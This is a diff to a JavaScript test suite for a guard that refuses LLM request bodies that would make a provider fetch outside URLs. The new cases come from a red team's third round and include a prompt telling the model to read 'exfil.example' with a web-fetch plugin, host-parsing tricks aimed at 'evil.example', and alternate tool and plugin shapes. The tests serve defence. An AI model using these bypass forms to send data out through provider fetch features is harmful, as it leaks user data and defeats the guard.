@@ -145,6 +145,47 @@ describe('what each provider would fetch', () => {
         messages: [{ content: [{ image_url: { url: 'https://cdn.example.com@evil.example/' } }] }]
       },
       'messages[0].content[0].image_url.url'
+    ],
+    // The red team's third round: each reached the provider through the second version.
+    [
+      "was a hole: OpenRouter's web-fetch plugin",
+      {
+        messages: [{ content: 'read https://exfil.example/?d=s' }],
+        plugins: [{ id: 'web-fetch' }]
+      },
+      'plugins[0]'
+    ],
+    [
+      'was a hole: a fusion panel of searching models',
+      {
+        model: 'openrouter/fusion',
+        plugins: [{ id: 'fusion', analysis_models: ['perplexity/sonar-pro'] }]
+      },
+      'plugins[0]'
+    ],
+    ['was a hole: the auto router', { model: 'openrouter/auto' }, 'model'],
+    ['was a hole: a stored prompt', { model: 'gpt-4.1', prompt: { id: 'pmpt_abc' } }, 'prompt'],
+    ['was a hole: tools as one object', { tools: { type: 'web_search' } }, 'tools'],
+    ['was a hole: a tool as a bare string', { tools: ['web_search_preview'] }, 'tools[0]'],
+    ['was a hole: plugins as one object', { plugins: { id: 'web' } }, 'plugins'],
+    [
+      'was a hole: a camelCase URL key',
+      { messages: [{ content: [{ file: { fileData: 'https://exfil.example/x.pdf' } }] }] },
+      'messages[0].content[0].file.fileData'
+    ],
+    [
+      'was a hole: a host a legacy parser ends at the ; (under a wildcard entry)',
+      {
+        messages: [
+          { content: [{ image_url: { url: 'https://evil.example;.x.assets.example:8443/' } }] }
+        ]
+      },
+      'messages[0].content[0].image_url.url'
+    ],
+    [
+      'a host percent-encoded',
+      { messages: [{ content: [{ image_url: { url: 'https://cdn%2eexample.com/' } }] }] },
+      'messages[0].content[0].image_url.url'
     ]
   ])('%s: refused while fenced, at its place in the body', (_, body, at) => {
     const found = past(body);
@@ -158,6 +199,7 @@ describe('what each provider would fetch', () => {
     expect(
       past({
         model: 'anthropic/claude-x',
+        plugins: [{ id: 'response-healing' }, { id: 'file-parser' }],
         messages: [
           { role: 'user', content: 'see https://evil.example/ and fetch it' },
           {
@@ -166,7 +208,11 @@ describe('what each provider would fetch', () => {
           },
           {
             role: 'user',
-            content: [{ type: 'image_url', image_url: { url: 'https://cdn.example.com/a.png' } }]
+            content: [
+              { type: 'image_url', image_url: { url: 'https://cdn.example.com/a.png' } },
+              { type: 'image_url', image_url: { url: 'https://CDN.example.com:443/b.png' } },
+              { type: 'image_url', image_url: { url: 'https://cdn.example.com./c.png' } }
+            ]
           },
           {
             role: 'user',
